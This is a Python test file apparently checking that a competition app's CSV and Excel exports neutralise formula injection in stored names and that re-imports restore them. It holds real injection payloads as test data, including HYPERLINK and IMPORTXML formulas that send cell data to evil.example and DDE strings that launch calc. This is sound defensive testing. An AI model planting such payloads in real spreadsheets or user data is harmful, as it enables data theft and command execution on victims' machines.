"""CSV/Excel formula injection: a name typed as a formula (=, +, -, @) leaves every export of the
app as text — an apostrophe before it in CSV and workbooks alike — and never as a formula cell;
the import reads such an export back to the name as typed.

(Leading tab and carriage return, the other two OWASP starts, cannot be stored: every name field
strips surrounding whitespace.)
"""

from __future__ import annotations

import csv
import io
from decimal import Decimal, InvalidOperation

import openpyxl
import pytest

from competition.registry.imports.tabular import FORMULA_STARTS
from tests.access import client_as
from tests.board.test_screens import mark_final
from tests.fixtures.databases import app_on_copy
from tests.marking import sign_off_all

from .hostile import EN, dispose, resubmit
from .test_hostile_names import FORMS, NAMES, people_template  # noqa: F401 (a fixture)

FORMULAS = {
    "championship": "=HYPERLINK(\"http://evil.example/\"&A1,\"Click\")",
    "skill": "@SUM(1+1)*cmd|' /C calc'!A0",
    "organization": "+1+cmd|' /C calc'!A0",
    "competitor": "=1+1",
    "expert": "-2+3+cmd|' /C calc'!A0",
    "award": "=IMPORTXML(CONCAT(\"http://evil.example/?\",A1),\"//a\")",
}
EXPORTS = (
    "/manage/sheets/skills/10/results.csv",
    "/manage/sheets/skills/10/results.xlsx",
    "/manage/sheets/skills/10/marks.csv",
    "/manage/sheets/skills/10/marks.xlsx",
    "/manage/sheets/championships/vko-ws-2026/medals.xlsx",
    "/results/10.xlsx",
    "/manage/import/export?export-kind=organizations&export-format=csv",
    "/manage/import/export?export-kind=organizations&export-format=xlsx",
    "/manage/import/export?export-kind=competitors&export-skill=vko-ws-2026/10"
    "&export-championship=vko-ws-2026&export-format=csv",
    "/manage/import/export?export-kind=competitors&export-skill=vko-ws-2026/10"
    "&export-championship=vko-ws-2026&export-format=xlsx",
    "/manage/import/export?export-kind=experts&export-championship=vko-ws-2026"
    "&export-format=csv",
    "/manage/import/export?export-kind=experts&export-championship=vko-ws-2026"
    "&export-format=xlsx",
)
# Which typed formula each export must carry (escaped): the names it lists
CARRIES = {
    "results": ("competitor",), "marks": ("competitor", "expert"), "medals": ("organization",),
    "/results/10.xlsx": ("competitor",), "organizations": ("organization",),
    "competitors": ("competitor",), "experts": ("expert",),
}


@pytest.fixture(scope="module")
def formula_app(people_template, tmp_path_factory):  # noqa: F811
    template, ids = people_template
    app = app_on_copy(template, tmp_path_factory.mktemp("formulas"))
    with app.app_context():
        # marks to export (the demo has none), final and signed off: published below
        mark_final("10")
        sign_off_all("10")
    organizer = client_as(app, "organizer", ids)
    for entity, url in FORMS.items():
        response = resubmit(organizer, url, dict.fromkeys(NAMES, FORMULAS[entity]))
        assert response.status_code in (302, 303), entity
    response = resubmit(organizer, "/manage/championships/1", {"visibility": "published"},
                        action="/board/vko-ws-2026/10/visibility")
    assert response.status_code in (302, 303)
    yield app, organizer
    dispose(app)


def cells(url: str, data: bytes) -> list[tuple[str, object, str]]:
    """(where, value, openpyxl data type or "csv") of every non-empty cell of an export."""
    found = []
    if ".xlsx" in url or "format=xlsx" in url:
        workbook = openpyxl.load_workbook(io.BytesIO(data), data_only=False)
        for sheet in workbook.worksheets:
            for row in sheet.iter_rows():
                found += [(f"{sheet.title}!{c.coordinate}", c.value, c.data_type)
                          for c in row if c.value is not None]
    else:
        text = data.decode("utf-8-sig")
        for number, record in enumerate(csv.reader(io.StringIO(text, newline="")), start=1):
            found += [(f"row {number}", value, "csv") for value in record if value != ""]
    return found


def _is_number(text: str) -> bool:
    try:
        Decimal(text)
    except InvalidOperation:
        return False
    return True


@pytest.mark.parametrize("url", EXPORTS)
def test_no_export_holds_a_formula(formula_app, url):
    _app, organizer = formula_app
    response = organizer.get(url, headers=EN)
    assert response.status_code == 200, (url, response.status_code)
    found = cells(url, response.data)
    assert found, url
    for where, value, kind in found:
        assert kind != "f", (url, where, value)
        if isinstance(value, str):
            assert not value.startswith(FORMULA_STARTS) or _is_number(value), (url, where, value)
    texts = {value for _where, value, _kind in found if isinstance(value, str)}
    key = next(k for k in CARRIES if k in url)
    for entity in CARRIES[key]:
        assert "'" + FORMULAS[entity] in texts or any(
            ("'" + FORMULAS[entity]) in t for t in texts), (url, entity)
    print(f"\nexport {url}: {len(found)} cells, none a formula")


def test_an_export_reimports_to_the_names_as_typed(formula_app):
    """The apostrophe is for spreadsheets only: the importer strips it again."""
    from competition.registry.imports import service
    from competition.registry.imports.reading import read_table

    app, organizer = formula_app
    response = organizer.get(EXPORTS[6], headers=EN)

    with app.test_request_context():
        importer = service.importer_for("organizations")
        table = read_table("organizations.csv", response.data, importer.columns)
    names = {row.values["name_en"] for row in table.rows}
    assert FORMULAS["organization"] in names
    assert not table.errors
